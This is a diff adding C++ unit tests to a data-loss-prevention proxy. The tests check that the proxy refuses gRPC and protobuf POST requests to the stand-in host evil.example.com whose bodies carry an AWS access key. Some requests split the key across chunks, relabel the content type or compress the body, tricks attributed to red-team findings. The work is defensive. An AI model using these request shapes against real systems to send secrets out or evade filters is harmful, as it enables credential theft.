@@ -490,11 +490,76 @@ TEST_F(dlp_test, CodedRequestBodiesAreReadDecodedOrRefused) {
     chain ch(pipeline_->factories(), ex);
     EXPECT_TRUE(ch.request_head().refused());
   }
+  for (const char* type : {"application/octet-stream", "text/plain"}) {
+    // The same messages under another label: the server decompresses them all the
+    // same (red team 21: grpc-encoding without a gRPC Content-Type went out unread).
+    auto& ex = post("evil.example.com", "", 0, type);
+    req_.set("grpc-encoding", "gzip");
+    chain ch(pipeline_->factories(), ex);
+    EXPECT_TRUE(ch.request_head().refused()) << type;
+  }
   {
     auto& ex2 = post("evil.example.com", "", 0, "application/grpc+proto");
     req_.set("grpc-encoding", "identity");
     chain ch2(pipeline_->factories(), ex2);
     EXPECT_TRUE(ch2.request_head().passes());
+  }
+}
+
+TEST_F(dlp_test, GrpcAndProtobufBodiesAreReadFieldByField) {
+  // The key opens a string field of 65 bytes: its length byte is 'A', so as bytes it has a
+  // letter on its left (red team 21). Each field is read on its own, however the body arrives.
+  load(kPolicy);
+  const std::string key_field = std::string(kAws) + " " + std::string(44, 'x');
+  const std::string message = std::string("\x0a\x41") + key_field + "\x32\x01z";
+  const std::string framed =
+      std::string("\0\0\0\0", 4) + static_cast<char>(message.size()) + message;
+  const auto post = [&](std::string_view type, std::optional<std::size_t> length) -> exchange& {
+    auto& ex = request(http::verb::post, "evil.example.com", "/airlock.test.Echo/Any");
+    ex.has_body = true;
+    ex.content_length = length;
+    req_.set(http::field::content_type, type);
+    return ex;
+  };
+  for (std::size_t step : {framed.size(), std::size_t{7}, std::size_t{1}}) {
+    auto& ex = post("application/grpc", std::nullopt);
+    chain ch(pipeline_->factories(), ex);
+    ASSERT_TRUE(ch.request_head().passes());
+    bool refused = false;
+    for (std::size_t at = 0; at < framed.size() && !refused; at += step)
+      refused =
+          ch.request_body(std::string_view(framed).substr(at, step), at + step >= framed.size())
+              .refused();
+    EXPECT_TRUE(refused) << step;
+    EXPECT_EQ(ex.record.dlp.at(0).cls, "aws-access-key");
+  }
+  {
+    // Half the key in each of two messages of a stream: read joined.
+    const auto frame = [](std::string_view m) {
+      return std::string("\0\0\0\0", 4) + static_cast<char>(m.size()) + std::string(m);
+    };
+    const std::string halves = frame(std::string("\x0a\x0a") + std::string(kAws).substr(0, 10)) +
+                               frame(std::string("\x0a\x0a") + std::string(kAws).substr(10));
+    auto& ex = post("application/grpc", std::nullopt);
+    chain ch(pipeline_->factories(), ex);
+    ASSERT_TRUE(ch.request_head().passes());
+    EXPECT_TRUE(ch.request_body(std::string_view(halves).substr(0, 15), false).passes());
+    EXPECT_TRUE(ch.request_body(std::string_view(halves).substr(15), true).refused());
+  }
+  {
+    auto& ex = post("application/x-protobuf", message.size());  // held whole
+    chain ch(pipeline_->factories(), ex);
+    ASSERT_TRUE(ch.request_head().passes());
+    EXPECT_TRUE(ch.request_body(message, true).refused());
+  }
+  {
+    // A clean message passes; one gRPC message over max_body_bytes cannot be read: refused.
+    auto& ex = post("application/grpc", std::nullopt);
+    chain ch(pipeline_->factories(), ex);
+    ASSERT_TRUE(ch.request_head().passes());
+    EXPECT_TRUE(ch.request_body(std::string("\0\0\0\0\x03\x0a\x01z", 8), false).passes());
+    EXPECT_TRUE(ch.request_body(std::string("\0\x7f\xff\xff\xff", 5), false).refused());
+    EXPECT_EQ(ex.record.dlp.at(0).cls, "unreadable-coding");
   }
 }
 
